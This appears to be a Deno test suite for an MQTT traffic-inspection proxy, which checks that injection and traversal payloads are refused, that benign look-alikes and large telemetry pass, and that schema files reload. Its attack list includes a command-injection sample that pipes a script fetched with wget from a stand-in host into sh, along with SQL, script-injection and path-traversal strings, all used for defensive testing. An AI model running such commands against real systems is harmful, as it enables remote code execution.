import assert from "node:assert/strict";
import type { MqttClient } from "mqtt";
import type { FrameRecord } from "../../demo/proxied_connection.ts";
import {
  assertNothingDenied,
  BreachError,
  type FileSite,
  inboxOf,
  type MqttVersion,
  publish,
  type Road,
  STEP,
  TEST_RULES,
  text,
  type Way,
  WAYS,
  withRoad,
  withSite,
} from "./support.ts";

const KIB = 1024;
const RULES = {
  ...TEST_RULES,
  // On a machine that is crowded, what takes time may take a little more of it.
  general: { "decision-deadline-ms": 75 },
  inspection: {
    enabled: true,
    patterns: { "sqli": true, "command-injection": true, "script-injection": true, "path-traversal": true },
    "json-schema": [{ name: "levels", "schema-file": "levels.json", topics: ["t/levels/#"] }],
  },
};
const LEVELS = { type: "object", required: ["level"], properties: { level: { type: "number" } } };
/** The same with another key. */
const HEIGHTS = { type: "object", required: ["height"], properties: { height: { type: "number" } } };

const ATTACKS: readonly (readonly [string, string])[] = [
  ["x' OR 'a'='a", "inspection-sqli"],
  ["x; wget http://e.example/a.sh | sh", "inspection-command-injection"],
  ['{"q":"\\u003cscript\\u003ealert(1)"}', "inspection-script-injection"],
  ["%2e%2e%2f%2e%2e%2f%2e%2e%2fetc", "inspection-path-traversal"],
];

/** Telemetry of just so many bytes, in line protocol: of JSON the limit of keys would be met first. */
function telemetry(bytes: number, end = ""): string {
  const reading = 'weather,location=us-midwest temperature=82.1,humidity=71i,state="ok" 1465839830100400200\n';
  return reading.repeat(Math.ceil(bytes / reading.length)).slice(0, bytes - end.length) + end;
}

/** Tries of what a crowded machine may have no time for: a large payload that cannot be inspected in time closes. */
const TRIES = 20;

/** What the agent said to the first frame of a client that it refused and that was not for want of time. */
function refusalOf(clientId: string): (record: FrameRecord) => boolean {
  return ({ from, decision: { action, audit } }) =>
    from === "client" && action.kind !== "forward" && audit?.custom["client_id"] === clientId;
}

function isForWantOfTime({ decision: { audit, decidedBy } }: FrameRecord): boolean {
  return decidedBy !== "agent" || (audit?.tags ?? []).some((tag) => ["overloaded", "late"].includes(tag));
}

function reasonsOf({ decision }: FrameRecord): readonly string[] {
  return decision.audit?.reason_codes ?? [];
}

/** Publishes until it arrives, with a new client each time that there was no time for it. */
async function arrives(road: Road, version: MqttVersion, topic: string, payload: string): Promise<void> {
  const seen = inboxOf(await road.witness(topic));
  for (let attempt = 0; attempt < TRIES; attempt++) {
    const clientId = `sender-${crypto.randomUUID()}`;
    const client = await road.connectTcp(clientId, version);
    const refused = road.frames.until(refusalOf(clientId), "a refusal").catch(() => null);
    const arrived = seen.until((message) => message.topic === topic, "the message").catch(() => null);
    client.publish(topic, payload, { qos: 1 }, () => {});
    const first = await Promise.race([refused, arrived]);
    if (first !== null && "topic" in first) return assert.equal(text(first.payload), payload);
    assert.ok(first !== null && isForWantOfTime(first), `refused as ${first && reasonsOf(first)}`);
  }
  assert.fail(`there was never time for ${payload.length} bytes`);
}

/** Publishes what must not arrive, and gives the reasons for which it was refused. */
async function refused(road: Road, version: MqttVersion, payload: string): Promise<readonly string[]> {
  for (let attempt = 0; attempt < TRIES; attempt++) {
    const clientId = `attacker-${crypto.randomUUID()}`;
    const client = await road.connectTcp(clientId, version);
    client.publish("t/denied", payload, { qos: 0 }, () => {});
    const record = await road.frames.until(refusalOf(clientId), `the refusal of ${payload.slice(-40)}`);
    if (!isForWantOfTime(record)) return reasonsOf(record);
  }
  assert.fail(`there was never time for ${payload.length} bytes`);
}

/** Fails when anything arrived where only what is refused is sent to. */
function assertNoneArrived(seen: ReturnType<typeof inboxOf>): void {
  if (seen.seen.length > 0) throw new BreachError(`An attack has arrived: ${text(seen.seen[0]!.payload).slice(-60)}`);
}

/** Runs `play` over every way, in the MQTT versions that the broker speaks. */
async function everywhere(
  t: Deno.TestContext,
  site: FileSite,
  name: string,
  play: (road: Road, version: MqttVersion, way: Way) => Promise<void>,
): Promise<void> {
  for (const way of WAYS) {
    for (const version of site.versions) {
      const label = `MQTT ${version === 5 ? "5.0" : "3.1.1"} over ${way.protocol}, pool ${way.pool}`;
      await t.step({
        ...STEP,
        name: `${label}: ${name}`,
        fn: () => withRoad(site, way, (road) => play(road, version, way)),
      });
    }
  }
}

// Of two that are waited for the slower one goes on waiting, up to its limit: no leak, but it looks like one.
const RACES = { sanitizeResources: false, sanitizeOps: false } as const;

Deno.test("inspected traffic of mqtt.js", RACES, async (t) => {
  await withSite(RULES, async (site) => {
    await everywhere(t, site, "attacks do not arrive, what is like them does", async (road, version) => {
      const denied = inboxOf(await road.witness("t/denied"));
      for (const [payload, reason] of ATTACKS) assert.deepEqual(await refused(road, version, payload), [reason]);
      for (const payload of ["21.5", "O'Brien; or 'a' and 'b'", '{"q":"<b>hot</b>"}', "../logo.png"]) {
        await arrives(road, version, `t/fine/${crypto.randomUUID()}`, payload);
      }
      assertNoneArrived(denied);
    });

    await everywhere(t, site, "names, Wills and filters are inspected too", async (road, version) => {
      const all = inboxOf(await road.witness("t/#"));
      const script = "<script>alert(1)</script>";
      const ended = /Cannot connect: the connection ended/;
      await assert.rejects(road.connect(`id-${script}`, version), ended);
      const will = { topic: "t/will", payload: Buffer.from(script), qos: 1, retain: false } as const;
      const willClient = `will-${crypto.randomUUID()}`;
      await assert.rejects(road.connect(willClient, version, { will }), ended);
      const clientId = `names-${crypto.randomUUID()}`;
      const client = await road.connectTcp(clientId, version);
      client.publish(`t/${script}`, "no");
      client.subscribe(`t/${script}/+`, () => {});
      await road.frames.until(
        ({ decision: { audit } }) => audit?.custom["client_id"] === clientId && audit.custom["packet"] === "SUBSCRIBE",
        "the refusal of the SUBSCRIBE",
      );
      const refusals = road.frames.seen.filter(refusalOf(clientId));
      assert.deepEqual(refusals.map(reasonsOf), Array(2).fill(["inspection-script-injection"]));
      await publish(client, "t/after", clientId, { qos: 1 });
      await all.until(({ payload }) => text(payload) === clientId, "a later PUBLISH");
      assertNothingDenied(all);
      assert.deepEqual(all.seen.map(({ topic }) => topic), ["t/after"]);
    });

    await everywhere(t, site, "100 and 256 KiB arrive, hostile ones do not", async (road, version) => {
      const denied = inboxOf(await road.witness("t/denied"));
      await arrives(road, version, `t/large/${crypto.randomUUID()}`, telemetry(100 * KIB));
      await arrives(road, version, `t/large/${crypto.randomUUID()}`, telemetry(256 * KIB));
      const script = "<script>alert(1)</script>";
      assert.deepEqual(await refused(road, version, telemetry(100 * KIB, script)), ["inspection-script-injection"]);
      assert.deepEqual(await refused(road, version, telemetry(256 * KIB + 1)), ["payload-too-large"]);
      assertNoneArrived(denied);
    });

    await everywhere(t, site, "others publish while large payloads are inspected", async (road, version) => {
      const seen = inboxOf(await road.witness("t/small/#"));
      const bulk: MqttClient[] = [];
      for (let n = 0; n < 4; n++) bulk.push(await road.connectTcp(`bulk-${crypto.randomUUID()}`, version));
      const small = await road.connectTcp(`small-${crypto.randomUUID()}`, version);
      const payload = telemetry(200 * KIB);
      for (let n = 0; n < 40; n++) {
        for (const client of bulk) if (client.connected && n % 4 === 0) client.publish("t/bulk", payload, () => {});
        await publish(small, `t/small/${n}`, `${n}`, { qos: 1 });
      }
      await seen.untilCount(40, "a small message");
      assert.ok(small.connected);
      const large = road.frames.seen.filter(({ frame }) => frame.payload.length > 100 * KIB);
      assert.ok(large.length > 0);
      const wrong = large.filter((record) => record.decision.action.kind !== "forward" && !isForWantOfTime(record));
      assert.deepEqual(wrong.map(reasonsOf), []);
    });
  }, { "levels.json": JSON.stringify(LEVELS) });
});

Deno.test("a schema that is replaced on disk takes effect, and one that is broken does not", RACES, async (t) => {
  await withSite(RULES, async (site) => {
    await everywhere(t, site, "what fits the file of now passes", async (road, version) => {
      const join = () => road.connectTcp(`schema-${crypto.randomUUID()}`, version);
      let client = await join();
      let sent = 0;
      /** Publishes until the schema in force is one that says so. */
      const until = async (payload: string, verdict: "forward" | "drop") => {
        for (;;) {
          const topic = `t/levels/${crypto.randomUUID()}`;
          // Behind its CONNECT, each packet is a frame.
          const index = ++sent;
          client.publish(topic, payload, () => {});
          const record = await road.frames.until(
            (record) => record.from === "client" && record.index >= index && text(record.frame.payload).includes(topic),
            "the verdict on a level",
          );
          const { kind } = record.decision.action;
          if (kind === verdict) return;
          if (kind !== "close") continue;
          assert.ok(isForWantOfTime(record), `closed as ${reasonsOf(record)}`);
          client = await join();
          sent = 0;
        }
      };
      await site.replaceFile("levels.json", JSON.stringify(LEVELS));
      await until('{"level":7}', "forward");
      await until('{"height":7}', "drop");
      await site.replaceFile("levels.json", JSON.stringify(HEIGHTS));
      await until('{"height":7}', "forward");
      await until('{"level":7}', "drop");
      await site.replaceFile("levels.json", '{ "type": ');
      await until('{"height":7}', "forward");
      await site.replaceFile("levels.json", JSON.stringify(LEVELS));
      await until('{"level":7}', "forward");
    });
  }, { "levels.json": JSON.stringify(LEVELS) });
});
